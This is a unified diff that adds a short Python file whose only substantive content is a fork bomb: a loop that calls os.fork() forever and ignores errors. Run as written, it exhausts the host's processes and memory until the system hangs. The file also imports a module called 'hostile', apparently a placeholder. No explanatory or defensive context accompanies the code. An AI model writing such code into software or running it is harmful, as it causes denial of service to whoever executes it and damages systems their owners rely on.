@@ -1,0 +1,8 @@
+import hostile
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
